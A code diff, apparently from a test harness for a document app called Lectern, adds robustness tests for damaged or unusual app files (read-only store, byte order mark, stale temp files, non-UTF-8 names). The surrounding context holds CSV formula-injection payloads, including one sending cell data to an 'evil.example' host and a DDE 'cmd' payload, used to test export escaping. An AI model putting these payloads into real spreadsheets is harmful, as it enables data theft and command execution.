@@ -9,6 +9,7 @@ import fs from 'node:fs';
 import path from 'node:path';
 import { performance } from 'node:perf_hooks';
 import { LAUNCH_HEADER, SESSION_HEADER, SESSION_PATH } from '../../app/common/browserSession';
+import { emptyStore } from '../../app/core/annotations/storeFormat';
 import { rawRequest } from '../../test/helpers/rawHttp';
 import { startTestServer, type TestServer } from '../../test/helpers/server';
 import { withTempDir } from '../../test/helpers/temp';
@@ -271,6 +272,68 @@ function jailCases(outside: string): Case[] {
   ];
 }
 
+/** Lectern's own files as a careless user, a crash or another program leaves them. */
+function ownFileCases(): Case[] {
+  const store = (dir: string) => path.join(dir, '.lectern', 'annotations.json');
+  const seeded = (dir: string) => {
+    fs.mkdirSync(path.join(dir, '.lectern'), { recursive: true });
+    fs.writeFileSync(store(dir), JSON.stringify(emptyStore()));
+  };
+  return [
+    {
+      label: 'a read-only tag store',
+      run: () =>
+        withServer(
+          (dir) => {
+            seeded(dir);
+            fs.chmodSync(store(dir), 0o444);
+          },
+          async (s, session) => {
+            const before = fs.readFileSync(store(s.corpusDir), 'utf8');
+            const r = await timed(session, 'createTag', { name: 'New' });
+            if (!r.error || !/read-only/i.test(r.error)) return 'tagging was not refused with a message';
+            if (fs.readFileSync(store(s.corpusDir), 'utf8') !== before) return 'the store was changed';
+            return (fs.statSync(store(s.corpusDir)).mode & 0o777) === 0o444 ? null : 'its mode was changed';
+          },
+        ),
+    },
+    {
+      label: 'a tag store with a byte order mark',
+      run: () =>
+        withServer(
+          (dir) => {
+            seeded(dir);
+            fs.writeFileSync(store(dir), `\ufeff${fs.readFileSync(store(dir), 'utf8')}`);
+          },
+          async (_s, session) => ((await timed(session, 'createTag', { name: 'New' })).error ? 'the store was refused' : null),
+        ),
+    },
+    {
+      label: 'temp files of a dead writer in the cache',
+      run: () =>
+        withServer(
+          (dir) => {
+            fs.mkdirSync(path.join(dir, '.lectern', 'cache'), { recursive: true });
+            fs.writeFileSync(path.join(dir, '.lectern', 'cache', 'index.json.tmp-999999-deadbeef'), 'partial');
+          },
+          async (s) => (fs.readdirSync(path.join(s.corpusDir, '.lectern', 'cache')).some((n) => n.includes('999999')) ? 'the temp file stayed' : null),
+        ),
+    },
+    {
+      label: 'a file name that is not valid UTF-8',
+      run: () =>
+        withServer(
+          (dir) => fs.writeFileSync(Buffer.concat([Buffer.from(`${dir}/`), Buffer.from([0xff, 0xfe]), Buffer.from('.md')]), 'Text.'),
+          async (_s, session) => {
+            const lib = await session.call<{ documents: unknown[]; diagnostics: { message: string }[] }>('library', {});
+            if (lib.documents.length !== 3) return 'the other documents did not load';
+            return lib.diagnostics.some((d) => /UTF-8/.test(d.message)) ? null : 'not reported as a name that is not UTF-8';
+          },
+        ),
+    },
+  ];
+}
+
 /** Spreadsheet formulas in every exported CSV cell a corpus or a user controls. */
 function csvCases(): Case[] {
   const payloads = ['=HYPERLINK("http://evil.example/"&A2,"Open")', '+1+cmd|" /C calc"!A0', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1'];
@@ -323,6 +386,7 @@ export async function runAttacks(log: (line: string) => void): Promise<AttackCla
     await tryAll('files in the corpus', fileCases(), log),
     await withTempDir((outside) => tryAll('the corpus as a jail', jailCases(outside), log), 'lectern-outside-'),
     await tryAll('CSV formula injection', csvCases(), log),
+    await tryAll("Lectern's own files", ownFileCases(), log),
     await withServer(
       (dir) => HOSTILE_DOCS.forEach((f) => fs.copyFileSync(path.join(HOSTILE, f), path.join(dir, f))),
       async (_s, session) => tryAll('hostile documents (test/fixtures/hostile), loaded and read', hostileDocCases(session), log),
